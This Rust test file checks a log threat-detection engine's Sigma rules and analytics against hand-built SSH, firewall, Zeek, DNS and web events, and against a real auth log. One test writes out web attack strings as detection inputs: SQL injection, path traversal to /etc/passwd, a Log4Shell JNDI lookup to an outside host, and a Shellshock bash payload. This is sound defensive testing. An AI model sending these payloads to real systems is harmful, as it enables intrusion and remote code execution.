//! Detection engine tests: bundled Sigma rules, correlations and analytics over events built by
//! hand, user rule folders, and (when the corpus is present) real logs.

use std::path::Path;

use jiff::Timestamp;
use threatlens::engine::detect::{Detection, Detector, MAX_EVIDENCE, RuleSet, Severity};
use threatlens::engine::event::{Action, Event, EventFormat, Location, Outcome};

const BRUTE_FORCE: &str = "Brute-Force Login From One Source";
const SPRAYING: &str = "Password Spraying From One Source";
const SUCCESS_AFTER: &str = "Successful Login From A Brute-Forcing Source";
const SUCCESS_ON_HOST: &str = "Successful Login On A Host Under Brute-Force Attack";
const PORT_SCAN: &str = "Port Scan From One Source";
const HOST_SWEEP: &str = "Host Sweep From One Source";
const BEACONING: &str = "Beaconing Between Two Hosts";

fn at(line: u64) -> Location {
    Location { file: 0, line }
}

/// A fixed base time plus `secs`.
fn time_at(secs: i64) -> Timestamp {
    Timestamp::from_second(1_700_000_000 + secs).unwrap_or(Timestamp::UNIX_EPOCH)
}

fn ssh_login(line: u64, secs: i64, src: &str, user: &str, outcome: Outcome) -> Event {
    let mut event = Event::new(at(line), EventFormat::Sshd);
    event.time = Some(time_at(secs));
    event.action = Some(Action::Login);
    event.outcome = Some(outcome);
    event.src_ip = src.parse().ok();
    event.src_port = Some(40_000);
    event.user = Some(user.to_owned());
    event.process = Some("sshd".to_owned());
    event.reporter = Some("web1".to_owned());
    event.auth_method = Some("password".to_owned());
    event
}

fn run(rules: &RuleSet, events: &[Event]) -> Vec<Detection> {
    let mut detector = Detector::new(rules);
    for event in events {
        detector.observe(event);
    }
    detector.finish()
}

fn titled<'a>(detections: &'a [Detection], title: &str) -> Vec<&'a Detection> {
    detections.iter().filter(|d| d.title == title).collect()
}

fn find<'a>(detections: &[&'a Detection], src: &str) -> &'a Detection {
    match detections.iter().find(|d| d.src_ip.as_deref() == Some(src)) {
        Some(detection) => detection,
        None => panic!("no detection for {src}: {detections:#?}"),
    }
}

fn detail<'a>(detection: &'a Detection, name: &str) -> Option<&'a str> {
    detection
        .details
        .iter()
        .find(|(key, _)| key == name)
        .map(|(_, value)| value.as_str())
}

fn bundled() -> RuleSet {
    match RuleSet::bundled() {
        Ok(rules) => rules,
        Err(error) => panic!("bundled rules do not load: {error}"),
    }
}

#[test]
fn bundled_rules_load() {
    let rules = bundled();
    // 31 Sigma documents (detection and correlation) and 4 analytics in assets/rules.
    assert_eq!(rules.len(), 35);
    assert_eq!(rules.analytics().len(), 4);
    assert!(rules.rules().iter().all(|rule| !rule.formats.is_empty()));
}

#[test]
fn brute_force_fires_once_per_source_above_threshold_only() {
    let mut events = Vec::new();
    for n in 0..25 {
        events.push(ssh_login(
            n + 1,
            n as i64 * 10,
            "198.51.100.7",
            "root",
            Outcome::Failure,
        ));
    }
    for n in 0..9 {
        events.push(ssh_login(
            100 + n,
            n as i64 * 10,
            "198.51.100.8",
            "root",
            Outcome::Failure,
        ));
    }

    let detections = run(&bundled(), &events);

    let brute = titled(&detections, BRUTE_FORCE);
    assert_eq!(brute.len(), 1, "{detections:#?}");
    let finding = brute[0];
    assert_eq!(finding.src_ip.as_deref(), Some("198.51.100.7"));
    assert_eq!(finding.user.as_deref(), Some("root"));
    assert_eq!(finding.count, 25);
    assert_eq!(finding.evidence_total, 25);
    assert_eq!(finding.evidence.len(), 25);
    assert_eq!(finding.evidence.first(), Some(&at(1)));
    assert_eq!(finding.severity, Severity::High);
    assert_eq!(finding.techniques, vec!["T1110", "T1110.001"]);
    assert_eq!(finding.tactics, vec!["credential-access"]);
    assert_eq!(finding.first_seen, Some(time_at(0)));
    assert_eq!(finding.last_seen, Some(time_at(240)));
    assert_eq!(detail(finding, "correlation"), Some("event_count"));
    assert_eq!(detail(finding, "timespan_secs"), Some("600"));

    // The failures themselves are only counted by correlations, never reported alone.
    assert!(titled(&detections, "Failed Login").is_empty());
}

#[test]
fn failures_spread_beyond_the_window_do_not_fire() {
    // 30 failures, one every 2 minutes: at most 5 fall in any 10-minute window.
    let events: Vec<Event> = (0..30)
        .map(|n| {
            ssh_login(
                n + 1,
                n as i64 * 120,
                "198.51.100.9",
                "root",
                Outcome::Failure,
            )
        })
        .collect();

    let detections = run(&bundled(), &events);

    assert!(
        titled(&detections, BRUTE_FORCE).is_empty(),
        "{detections:#?}"
    );
}

#[test]
fn password_spraying_counts_distinct_users() {
    let users = ["alice", "bob", "carol", "dave", "erin", "frank"];
    let events: Vec<Event> = users
        .iter()
        .enumerate()
        .map(|(n, user)| {
            ssh_login(
                n as u64 + 1,
                n as i64 * 300,
                "203.0.113.5",
                user,
                Outcome::Failure,
            )
        })
        .collect();

    let detections = run(&bundled(), &events);

    let spraying = titled(&detections, SPRAYING);
    assert_eq!(spraying.len(), 1, "{detections:#?}");
    assert_eq!(spraying[0].count, 6);
    assert_eq!(
        spraying[0].user, None,
        "users differ, so no single user is shown"
    );
    assert_eq!(detail(spraying[0], "distinct_user"), Some("6"));
    assert_eq!(spraying[0].techniques, vec!["T1110", "T1110.003"]);
    // Six failures in 25 minutes are not a brute force by the 10-in-10-minutes rule.
    assert!(titled(&detections, BRUTE_FORCE).is_empty());
}

#[test]
fn successful_login_after_failures_from_the_same_source() {
    let mut events: Vec<Event> = (0..12)
        .map(|n| ssh_login(n + 1, n as i64 * 5, "192.0.2.44", "admin", Outcome::Failure))
        .collect();
    events.push(ssh_login(13, 70, "192.0.2.44", "admin", Outcome::Success));
    events.push(ssh_login(14, 80, "192.0.2.99", "carol", Outcome::Success));

    let detections = run(&bundled(), &events);

    let success = titled(&detections, SUCCESS_AFTER);
    assert_eq!(success.len(), 1, "{detections:#?}");
    assert_eq!(success[0].src_ip.as_deref(), Some("192.0.2.44"));
    assert_eq!(success[0].user.as_deref(), Some("admin"));
    assert_eq!(success[0].evidence, vec![at(13)]);
    assert_eq!(success[0].severity, Severity::Critical);
    assert!(success[0].techniques.contains(&"T1078".to_owned()));
}

#[test]
fn success_without_earlier_failures_is_not_reported() {
    let mut events = vec![ssh_login(1, 0, "192.0.2.50", "carol", Outcome::Success)];
    events.extend(
        (0..12).map(|n| ssh_login(n + 2, 10 + n as i64, "192.0.2.50", "x", Outcome::Failure)),
    );

    let detections = run(&bundled(), &events);

    assert_eq!(titled(&detections, BRUTE_FORCE).len(), 1);
    assert!(
        titled(&detections, SUCCESS_AFTER).is_empty(),
        "{detections:#?}"
    );
}

#[test]
fn success_on_a_host_under_attack_from_another_source() {
    let mut events: Vec<Event> = (0..20)
        .map(|n| {
            ssh_login(
                n + 1,
                n as i64 * 10,
                "198.51.100.20",
                "root",
                Outcome::Failure,
            )
        })
        .collect();
    events.push(ssh_login(21, 300, "203.0.113.77", "adam", Outcome::Success));

    let detections = run(&bundled(), &events);

    let on_host = titled(&detections, SUCCESS_ON_HOST);
    assert_eq!(on_host.len(), 1, "{detections:#?}");
    assert_eq!(on_host[0].src_ip.as_deref(), Some("203.0.113.77"));
    assert_eq!(on_host[0].user.as_deref(), Some("adam"));
    assert!(titled(&detections, SUCCESS_AFTER).is_empty());
}

/// More quiet groups than the detector follows at once: 60,000 sources fail once each, a
/// second apart, so each one's 10-minute window has long passed when the next thousands come.
/// A source that then fails 12 times must still be found, with all 12 failures counted.
#[test]
fn brute_force_is_found_after_many_quiet_sources() {
    let mut events: Vec<Event> = (0..60_000u32)
        .map(|n| {
            let source = format!("10.{}.{}.{}", n >> 16, (n >> 8) & 0xff, n & 0xff);
            ssh_login(
                u64::from(n) + 1,
                i64::from(n),
                &source,
                "root",
                Outcome::Failure,
            )
        })
        .collect();
    events.extend((0..12).map(|n| {
        let line = 60_001 + n as u64;
        ssh_login(line, 60_000 + n, "198.51.100.99", "admin", Outcome::Failure)
    }));

    let detections = run(&bundled(), &events);

    let brute = titled(&detections, BRUTE_FORCE);
    assert_eq!(brute.len(), 1, "{brute:#?}");
    assert_eq!(brute[0].src_ip.as_deref(), Some("198.51.100.99"));
    assert_eq!(brute[0].count, 12);
    assert_eq!(brute[0].evidence.first(), Some(&at(60_001)));
}

/// Uploads to port 8443 summed per source over an hour: a correlation kind (`value_sum`) the
/// detector leaves to rsigma.
const UPLOAD_SUM_RULES: &str = r#"
title: Upload To Port 8443
id: 0b7f2c7e-4a59-4f3e-9d54-0d7f00a1c001
name: upload_8443
status: test
logsource:
  product: zeek
  service: conn
detection:
  selection:
    dst_port: 8443
  condition: selection
level: informational
---
title: Many Bytes To Port 8443
id: 0b7f2c7e-4a59-4f3e-9d54-0d7f00a1c002
status: test
correlation:
  type: value_sum
  rules:
    - upload_8443
  group-by:
    - src_ip
  timespan: 1h
  condition:
    field: bytes_out
    gte: 1000
level: medium
"#;

/// A correlation kind the detector does not count itself (`value_sum`) still runs on rsigma:
/// three 400-byte uploads from one source within the hour sum to 1,200 bytes, past 1,000; two
/// from another source sum to 800 and do not fire.
#[test]
fn correlations_left_to_rsigma_still_fire() {
    let rules = match RuleSet::from_yaml("sum.yml", UPLOAD_SUM_RULES) {
        Ok(rules) => rules,
        Err(error) => panic!("rule does not load: {error}"),
    };
    let mut events: Vec<Event> = (0..3)
        .map(|n| {
            conn(
                n + 1,
                n as i64 * 60_000,
                "10.0.0.8",
                "203.0.113.9",
                8443,
                400,
            )
        })
        .collect();
    events.extend((0..2).map(|n| {
        conn(
            n + 4,
            n as i64 * 60_000,
            "10.0.0.9",
            "203.0.113.9",
            8443,
            400,
        )
    }));

    let detections = run(&rules, &events);

    let sums = titled(&detections, "Many Bytes To Port 8443");
    assert_eq!(sums.len(), 1, "{detections:#?}");
    assert_eq!(sums[0].src_ip.as_deref(), Some("10.0.0.8"));
    assert_eq!(sums[0].count, 3);
    assert_eq!(detail(sums[0], "correlation"), Some("aggregate"));
}

fn firewall_deny(line: u64, secs: i64, src: &str, dst: &str, port: u16) -> Event {
    let mut event = Event::new(at(line), EventFormat::Netfilter);
    event.time = Some(time_at(secs));
    event.action = Some(Action::Deny);
    event.src_ip = src.parse().ok();
    event.dst_ip = dst.parse().ok();
    event.dst_port = Some(port);
    event.proto = Some("tcp".to_owned());
    event
}

#[test]
fn vertical_port_scan_needs_twenty_ports() {
    let mut events: Vec<Event> = (0..25)
        .map(|n| {
            firewall_deny(
                n + 1,
                n as i64 * 60,
                "192.0.2.10",
                "10.0.0.1",
                1000 + n as u16,
            )
        })
        .collect();
    events.extend((0..10).map(|n| {
        firewall_deny(
            100 + n,
            n as i64 * 60,
            "192.0.2.11",
            "10.0.0.1",
            2000 + n as u16,
        )
    }));

    let detections = run(&bundled(), &events);

    let scans = titled(&detections, PORT_SCAN);
    assert_eq!(scans.len(), 1, "{detections:#?}");
    assert_eq!(scans[0].src_ip.as_deref(), Some("192.0.2.10"));
    assert_eq!(scans[0].dst_ip.as_deref(), Some("10.0.0.1"));
    assert_eq!(scans[0].dst_port, None, "ports differ");
    assert_eq!(scans[0].count, 25);
    assert_eq!(detail(scans[0], "distinct_dst_port"), Some("25"));
    assert!(scans[0].techniques.contains(&"T1595.001".to_owned()));
    assert!(titled(&detections, HOST_SWEEP).is_empty());
}

#[test]
fn horizontal_sweep_from_zeek_rejected_connections() {
    let events: Vec<Event> = (0..12)
        .map(|n| {
            let mut event = Event::new(at(n + 1), EventFormat::ZeekConn);
            event.time = Some(time_at(n as i64 * 30));
            event.action = Some(Action::Connection);
            event.src_ip = "198.51.100.66".parse().ok();
            event.dst_ip = format!("10.1.0.{}", n + 1).parse().ok();
            event.dst_port = Some(445);
            event.push_extra("conn_state", if n % 2 == 0 { "S0" } else { "REJ" });
            event
        })
        .collect();

    let detections = run(&bundled(), &events);

    let sweeps = titled(&detections, HOST_SWEEP);
    assert_eq!(sweeps.len(), 1, "{detections:#?}");
    assert_eq!(sweeps[0].count, 12);
    assert_eq!(sweeps[0].dst_port, Some(445));
    assert_eq!(sweeps[0].dst_ip, None);
    assert_eq!(detail(sweeps[0], "distinct_dst_ip"), Some("12"));
}

#[test]
fn remote_service_attempts_need_three_denials() {
    let events = vec![
        firewall_deny(1, 0, "192.0.2.30", "10.0.0.1", 22),
        firewall_deny(2, 60, "192.0.2.30", "10.0.0.1", 3389),
        firewall_deny(3, 120, "192.0.2.30", "10.0.0.1", 23),
        firewall_deny(4, 0, "192.0.2.31", "10.0.0.1", 22),
        firewall_deny(5, 60, "192.0.2.31", "10.0.0.1", 80),
    ];

    let detections = run(&bundled(), &events);

    let attempts = titled(
        &detections,
        "Unauthorized Access Attempts On Remote Services",
    );
    assert_eq!(attempts.len(), 1, "{detections:#?}");
    assert_eq!(attempts[0].src_ip.as_deref(), Some("192.0.2.30"));
    assert_eq!(attempts[0].count, 3);
    assert_eq!(attempts[0].techniques, vec!["T1133", "T1021"]);
}

fn web_request(line: u64, src: &str, url: &str, user_agent: &str) -> Event {
    let mut event = Event::new(at(line), EventFormat::WebAccess);
    event.time = Some(time_at(line as i64));
    event.action = Some(Action::Request);
    event.src_ip = src.parse().ok();
    event.http_method = Some("GET".to_owned());
    event.url = Some(url.to_owned());
    event.http_status = Some(404);
    event.user_agent = Some(user_agent.to_owned());
    event
}

#[test]
fn web_attack_lines_match_their_rules() {
    let browser = "Mozilla/5.0 (X11; Linux x86_64)";
    let cases = [
        (
            "/item.php?id=1%27+UNION+SELECT+user,password+FROM+users--",
            browser,
            "SQL Injection Attempt In Web Request",
        ),
        (
            "/static/../../../../etc/passwd",
            browser,
            "Path Traversal Attempt In Web Request",
        ),
        (
            "/",
            "${jndi:ldap://203.0.113.1:1389/Exploit}",
            "Log4Shell Probe In Web Request",
        ),
        (
            "/cgi-bin/status",
            "() { :; }; /bin/bash -c 'id'",
            "Shellshock Probe In Web Request",
        ),
        ("/uploads/shell.php?cmd=id", browser, "Web Shell Probe"),
        (
            "/boaform/admin/formLogin?username=admin&psd=admin",
            browser,
            "Command Injection Attempt In Web Request",
        ),
        (
            "/",
            "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)",
            "Vulnerability Scanner User Agent",
        ),
        ("/.env", browser, "Probe For Sensitive Web Paths"),
    ];
    let events: Vec<Event> = cases
        .iter()
        .enumerate()
        .map(|(n, (url, agent, _))| web_request(n as u64 + 1, "203.0.113.200", url, agent))
        .collect();
    let mut normal = web_request(99, "203.0.113.201", "/index.html?page=2", browser);
    normal.http_status = Some(200);

    let mut all = events.clone();
    all.push(normal);
    let detections = run(&bundled(), &all);

    for (n, (_, _, title)) in cases.iter().enumerate() {
        let found = titled(&detections, title);
        assert!(
            found.iter().any(|d| d.evidence.contains(&at(n as u64 + 1))),
            "{title} did not fire on case {n}: {detections:#?}"
        );
    }
    assert!(
        detections
            .iter()
            .all(|d| d.src_ip.as_deref() != Some("203.0.113.201"))
    );
    let sqli = titled(&detections, "SQL Injection Attempt In Web Request");
    assert_eq!(sqli[0].techniques, vec!["T1190"]);
    assert_eq!(sqli[0].tactics, vec!["initial-access"]);
}

#[test]
fn evidence_is_capped_but_counted_in_full() {
    let events: Vec<Event> = (0..10_000)
        .map(|n| {
            web_request(
                n + 1,
                "203.0.113.210",
                "/a.php?q=1%27+union+select+1--",
                "x",
            )
        })
        .collect();

    let detections = run(&bundled(), &events);

    let sqli = titled(&detections, "SQL Injection Attempt In Web Request");
    assert_eq!(sqli.len(), 1);
    assert_eq!(sqli[0].count, 10_000);
    assert_eq!(sqli[0].evidence_total, 10_000);
    assert_eq!(sqli[0].evidence.len(), MAX_EVIDENCE);
    assert_eq!(sqli[0].evidence.last(), Some(&at(MAX_EVIDENCE as u64)));
}

fn conn(line: u64, time_ms: i64, src: &str, dst: &str, port: u16, bytes_out: u64) -> Event {
    let mut event = Event::new(at(line), EventFormat::ZeekConn);
    event.time = Timestamp::from_millisecond(1_700_000_000_000 + time_ms).ok();
    event.action = Some(Action::Connection);
    event.src_ip = src.parse().ok();
    event.dst_ip = dst.parse().ok();
    event.dst_port = Some(port);
    event.proto = Some("tcp".to_owned());
    event.bytes_out = Some(bytes_out);
    event.bytes_in = Some(200);
    event.push_extra("conn_state", "SF");
    event
}

/// A deterministic value in 0..1 (a linear congruential generator), so tests need no crate.
fn next_unit(state: &mut u64) -> f64 {
    *state = state
        .wrapping_mul(6_364_136_223_846_793_005)
        .wrapping_add(1);
    (*state >> 11) as f64 / (1u64 << 53) as f64
}

#[test]
fn regular_beacon_is_reported_and_random_traffic_is_not() {
    let mut state = 42;
    let mut events = Vec::new();
    let mut regular_ms = 0;
    let mut random_ms = 0;
    for n in 0..150u64 {
        regular_ms += 300_000 + ((next_unit(&mut state) - 0.5) * 20_000.0) as i64;
        events.push(conn(
            2 * n + 1,
            regular_ms,
            "10.0.0.5",
            "203.0.113.10",
            443,
            620,
        ));
        random_ms += (-300_000.0 * (1.0 - next_unit(&mut state)).ln()) as i64;
        let size = (next_unit(&mut state) * 90_000.0) as u64;
        events.push(conn(
            2 * n + 2,
            random_ms,
            "10.0.0.6",
            "203.0.113.11",
            443,
            size,
        ));
    }
    events.sort_by_key(|event| event.time);

    let detections = run(&bundled(), &events);

    let beacons = titled(&detections, BEACONING);
    assert_eq!(beacons.len(), 1, "{detections:#?}");
    let beacon = beacons[0];
    assert_eq!(beacon.src_ip.as_deref(), Some("10.0.0.5"));
    assert_eq!(beacon.dst_ip.as_deref(), Some("203.0.113.10"));
    assert_eq!(beacon.dst_port, Some(443));
    assert_eq!(beacon.count, 150);
    let score: f64 = detail(beacon, "score")
        .and_then(|s| s.parse().ok())
        .unwrap_or(0.0);
    assert!(score > 0.9, "score {score}");
    let interval: f64 = detail(beacon, "median_interval_secs")
        .and_then(|s| s.parse().ok())
        .unwrap_or(0.0);
    assert!((290.0..=310.0).contains(&interval), "interval {interval}");
}

#[test]
fn large_outbound_transfer_and_volume_outlier_are_reported() {
    let mut events = Vec::new();
    for n in 0..30u64 {
        let src = format!("10.0.2.{}", n + 1);
        events.push(conn(
            n + 1,
            n as i64 * 1000,
            &src,
            "198.51.100.1",
            443,
            10_000,
        ));
    }
    for n in 0..3u64 {
        events.push(conn(
            100 + n,
            50_000,
            "10.0.3.1",
            "203.0.113.99",
            22,
            50_000_000,
        ));
    }
    events.push(conn(
        200,
        60_000,
        "10.0.3.2",
        "203.0.113.98",
        443,
        5_000_000,
    ));
    // An internet client uploading to us is not outbound.
    events.push(conn(
        300,
        70_000,
        "198.51.100.5",
        "10.0.0.1",
        443,
        400_000_000,
    ));

    let detections = run(&bundled(), &events);

    let transfers = titled(&detections, "Large Or Unusual Outbound Transfer");
    assert_eq!(transfers.len(), 2, "{transfers:#?}");
    let big = find(&transfers, "10.0.3.1");
    assert_eq!(detail(big, "bytes_out"), Some("150000000"));
    assert_eq!(detail(big, "reason"), Some("volume above threshold"));
    assert_eq!(big.count, 3);
    assert_eq!(big.dst_port, Some(22));
    let outlier = find(&transfers, "10.0.3.2");
    assert_eq!(
        detail(outlier, "reason"),
        Some("outlier against typical pair volume")
    );
    assert_eq!(outlier.techniques, vec!["T1041", "T1048", "T1030"]);
}

fn dns_query(line: u64, name: &str, query_type: &str) -> Event {
    let mut event = Event::new(at(line), EventFormat::ZeekDns);
    event.time = Some(time_at(line as i64));
    event.action = Some(Action::Query);
    event.src_ip = "10.0.0.8".parse().ok();
    event.dst_ip = "10.0.0.53".parse().ok();
    event.dst_port = Some(53);
    event.domain = Some(name.to_owned());
    event.push_extra("qtype_name", query_type);
    event
}

#[test]
fn dns_tunnel_is_reported_and_ordinary_lookups_are_not() {
    let mut state = 9;
    let hex = b"0123456789abcdef";
    let mut events = Vec::new();
    for n in 0..80u64 {
        let label: String = (0..32)
            .map(|_| {
                let index = (next_unit(&mut state) * 16.0) as usize;
                char::from(hex.get(index).copied().unwrap_or(b'0'))
            })
            .collect();
        events.push(dns_query(
            n + 1,
            &format!("{label}.t.exfil-example.net"),
            "TXT",
        ));
        events.push(dns_query(1000 + n, "www.example.org", "A"));
        events.push(dns_query(
            2000 + n,
            &format!("host{n}.corp.example.com"),
            "A",
        ));
    }

    let detections = run(&bundled(), &events);

    let tunnels = titled(&detections, "DNS Tunnelling");
    assert_eq!(tunnels.len(), 1, "{tunnels:#?}");
    assert_eq!(tunnels[0].domain.as_deref(), Some("exfil-example.net"));
    assert_eq!(tunnels[0].count, 80);
    assert_eq!(detail(tunnels[0], "txt_queries"), Some("80"));
    assert_eq!(tunnels[0].techniques, vec!["T1071.004", "T1048.003"]);
}

#[test]
fn long_connection_is_reported() {
    let mut long = conn(1, 0, "10.0.0.9", "203.0.113.50", 22, 1_000);
    long.duration_secs = Some(7_200.5);
    let mut short = conn(2, 0, "10.0.0.9", "203.0.113.51", 22, 1_000);
    short.duration_secs = Some(30.0);

    let detections = run(&bundled(), &[long, short]);

    let found = titled(&detections, "Long Connection");
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].dst_ip.as_deref(), Some("203.0.113.50"));
    assert_eq!(detail(found[0], "longest_secs"), Some("7200"));
}

#[test]
fn suricata_alert_passes_its_own_techniques_through() {
    let alert = |line: u64, sid: u64, techniques: &[&str]| {
        let mut event = Event::new(at(line), EventFormat::SuricataAlert);
        event.time = Some(time_at(line as i64));
        event.action = Some(Action::Alert);
        event.src_ip = "198.51.100.3".parse().ok();
        event.dst_ip = "10.0.0.2".parse().ok();
        event.dst_port = Some(22);
        event.signature = Some("ET SCAN Potential SSH Scan".to_owned());
        event.signature_id = Some(sid);
        event.sensor_severity = Some(1);
        event.techniques = techniques.iter().map(|t| (*t).to_owned()).collect();
        event
    };
    let events = vec![
        alert(1, 2001219, &["T1046"]),
        alert(2, 2001219, &["T1046"]),
        alert(3, 2003068, &["T1110"]),
    ];

    let detections = run(&bundled(), &events);

    let alerts = titled(&detections, "Suricata Alert (Severity 1)");
    assert_eq!(alerts.len(), 2, "one per signature: {alerts:#?}");
    let scan = alerts.iter().find(|d| d.count == 2).copied();
    assert_eq!(
        scan.map(|d| d.techniques.clone()),
        Some(vec!["T1046".to_owned()])
    );
    assert!(alerts.iter().all(|d| d.severity == Severity::High));
}

fn rule_data(name: &str) -> std::path::PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/data/rules")
        .join(name)
}

#[test]
fn user_rule_folder_adds_rules_and_analytics() {
    let rules = match RuleSet::with_dir(&rule_data("user")) {
        Ok(rules) => rules,
        Err(error) => panic!("user rules do not load: {error}"),
    };
    assert_eq!(rules.len(), bundled().len() + 2);

    let mut hit = web_request(1, "192.0.2.200", "/hidden-admin?x=1", "curl/8.0");
    hit.http_status = Some(200);
    let miss = web_request(2, "192.0.2.200", "/hidden-admin", "curl/8.0");
    let mut events = vec![hit, miss];
    events.extend((0..6).map(|n| {
        conn(
            10 + n,
            n as i64 * 60_000,
            "10.0.0.7",
            "203.0.113.7",
            8080,
            90,
        )
    }));

    let detections = run(&rules, &events);

    let admin = titled(&detections, "Request For The Hidden Admin Page");
    assert_eq!(admin.len(), 1, "{detections:#?}");
    assert_eq!(admin[0].evidence, vec![at(1)]);
    assert_eq!(admin[0].severity, Severity::Critical);
    assert_eq!(
        detections.first().map(|d| d.severity),
        Some(Severity::Critical)
    );
    let quiet = titled(&detections, "Beaconing With A Low Bar");
    assert_eq!(quiet.len(), 1, "{detections:#?}");
    assert_eq!(quiet[0].count, 6);
}

#[test]
fn malformed_rule_file_is_an_error_naming_the_file() {
    let error = match RuleSet::with_dir(&rule_data("bad")) {
        Ok(_) => panic!("a broken rule loaded"),
        Err(error) => error.to_string(),
    };
    assert!(error.contains("broken_condition.yml"), "{error}");
}

#[test]
fn rule_file_that_is_not_yaml_is_an_error_naming_the_file() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("not_yaml.yml");
    std::fs::write(&path, "title: [unclosed\n  - nope: :\n").unwrap();

    let error = RuleSet::from_dir_only(dir.path())
        .err()
        .map(|e| e.to_string());

    let error = error.unwrap_or_default();
    assert!(error.contains("not_yaml.yml"), "{error}");
}

#[test]
fn correlation_naming_an_unknown_rule_is_an_error() {
    let text = "title: Lonely\nid: c-1\ncorrelation:\n  type: event_count\n  rules: [nowhere]\n  \
                group-by: [src_ip]\n  timespan: 5m\n  condition:\n    gte: 2\n";
    let error = RuleSet::from_yaml("lonely.yml", text)
        .err()
        .map(|e| e.to_string());
    let error = error.unwrap_or_default();
    assert!(
        error.contains("lonely.yml") && error.contains("nowhere"),
        "{error}"
    );
}

#[test]
fn detector_with_no_rules_reports_nothing() {
    let mut detector = Detector::new(&RuleSet::default());
    detector.observe(&ssh_login(1, 0, "192.0.2.1", "root", Outcome::Failure));
    assert!(detector.finish().is_empty());
}

/// Throughput probe, not a test of speed: run with
/// `cargo test --release --test detect throughput -- --ignored --nocapture`.
#[test]
#[ignore = "prints a measurement; run by hand in release mode"]
fn throughput() {
    let agent = "Mozilla/5.0 (Windows NT 10.0; Win64; x64)";
    let source = |n: u64| format!("198.51.{}.{}", n % 200, n % 250);
    let kinds: [(&str, &dyn Fn(u64) -> Event); 5] = [
        ("sshd failures", &|n| {
            ssh_login(n, n as i64 / 10, &source(n), "root", Outcome::Failure)
        }),
        ("sshd successes", &|n| {
            ssh_login(n, n as i64 / 10, &source(n), "root", Outcome::Success)
        }),
        ("firewall denies", &|n| {
            firewall_deny(n, n as i64 / 10, &source(n), "10.0.0.1", (n % 1024) as u16)
        }),
        ("web requests", &|n| {
            web_request(n, &source(n), "/index.php?page=2&sort=asc", agent)
        }),
        ("zeek conns", &|n| {
            let dst = format!("203.0.113.{}", n % 250);
            conn(n, n as i64 * 100, "10.0.0.5", &dst, 443, 900)
        }),
    ];

    let rules = bundled();
    let only = std::env::var("THROUGHPUT_ONLY").unwrap_or_default();
    for (name, make) in kinds {
        if !only.is_empty() && !name.starts_with(only.as_str()) {
            continue;
        }
        let events: Vec<Event> = (0..200_000).map(make).collect();
        let started = std::time::Instant::now();
        let cpu_before = thread_cpu_secs();
        let detections = run(&rules, &events);
        let cpu = thread_cpu_secs() - cpu_before;
        let wall = started.elapsed().as_secs_f64();
        let count = events.len() as f64;
        println!(
            "{name}: {:.0} events/s of CPU time ({:.0} of wall time), {} detections",
            count / cpu,
            count / wall,
            detections.len()
        );
    }
}

/// This process's resident memory in KiB, from /proc (0 when unknown).
fn resident_kib() -> i64 {
    let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    status
        .lines()
        .find_map(|line| line.strip_prefix("VmRSS:"))
        .and_then(|rest| rest.split_whitespace().next())
        .and_then(|kib| kib.parse().ok())
        .unwrap_or(0)
}

/// CPU time this thread has run, from Linux's schedstat (wall time is noisy on a busy machine).
fn thread_cpu_secs() -> f64 {
    let text = std::fs::read_to_string("/proc/thread-self/schedstat").unwrap_or_default();
    let nanos: f64 = text
        .split_whitespace()
        .next()
        .and_then(|field| field.parse().ok())
        .unwrap_or(f64::NAN);
    nanos / 1e9
}

/// The shared corpus, when this checkout sits next to it.
fn corpus() -> Option<std::path::PathBuf> {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/corpus");
    if root.is_dir() {
        Some(root)
    } else {
        println!("note: ../shared/corpus not found; corpus detection tests skipped");
        None
    }
}

/// Detections over several corpus files fed to one detector, as a scan would.
fn detect_files(paths: &[std::path::PathBuf]) -> Vec<Detection> {
    let mut detector = Detector::new(&bundled());
    let options = threatlens::engine::ingest::IngestOptions::default();
    for (index, path) in paths.iter().enumerate() {
        let file = u32::try_from(index).unwrap_or(u32::MAX);
        threatlens::engine::ingest::ingest_file(path, file, &options, &mut |batch| {
            for event in &batch {
                detector.observe(event);
            }
        });
    }
    detector.finish()
}

/// Sources and counts of the detections with `title`, sorted.
fn sources(detections: &[Detection], title: &str) -> Vec<(String, u64)> {
    let mut found: Vec<(String, u64)> = titled(detections, title)
        .iter()
        .map(|d| (d.src_ip.clone().unwrap_or_default(), d.count))
        .collect();
    found.sort();
    found
}

/// vps2022_auth.log: 1,767 pam_unix failures (all user root) and, for each, an sshd
/// "error: PAM: Authentication failure" line; the parser reports both as failed logins, so each
/// source's count is twice its pam_unix count (grep rhost= | sort | uniq -c). With both lines
/// counted, every one of the 11 sources has at least 18 failures within some 10 minutes (awk
/// sliding window), so all 11 are brute-forcing. The one accepted login (line 5485, adam from
/// 73.49.186.26) comes from an address with no failures, while 49.88.112.117 is hammering the
/// host: a success on a host under attack, not from a brute-forcing source. 194.31.98.143 tried
/// 34 distinct unknown user names in 40 "Invalid user" lines within 49 minutes.
#[test]
fn corpus_vps_auth_log_brute_force_and_success() {
    let Some(root) = corpus() else {
        return;
    };
    let detections = detect_files(&[root.join("syslog_auth/vps2022_auth.log")]);

    let expected: Vec<(String, u64)> = [
        ("218.92.0.221", 18),
        ("49.88.112.117", 1310),
        ("61.177.172.114", 89),
        ("61.177.172.124", 9),
        ("61.177.173.35", 9),
        ("61.177.173.39", 18),
        ("61.177.173.47", 54),
        ("61.177.173.48", 179),
        ("61.177.173.49", 54),
        ("61.177.173.51", 9),
        ("61.177.173.52", 18),
    ]
    .iter()
    .map(|(src, pam_lines)| ((*src).to_owned(), pam_lines * 2))
    .collect();
    assert_eq!(sources(&detections, BRUTE_FORCE), expected);

    let on_host = titled(&detections, SUCCESS_ON_HOST);
    assert_eq!(on_host.len(), 1, "{on_host:#?}");
    assert_eq!(on_host[0].src_ip.as_deref(), Some("73.49.186.26"));
    assert_eq!(on_host[0].user.as_deref(), Some("adam"));
    assert_eq!(on_host[0].evidence.first().map(|at| at.line), Some(5485));
    assert!(titled(&detections, SUCCESS_AFTER).is_empty());

    let enumeration = titled(&detections, "User Name Enumeration From One Source");
    assert_eq!(enumeration.len(), 1);
    assert_eq!(enumeration[0].src_ip.as_deref(), Some("194.31.98.143"));
    assert_eq!(enumeration[0].count, 40);
    assert_eq!(detail(enumeration[0], "distinct_user"), Some("34"));
    assert!(
        titled(&detections, SPRAYING).is_empty(),
        "every failure is for root"
    );
}

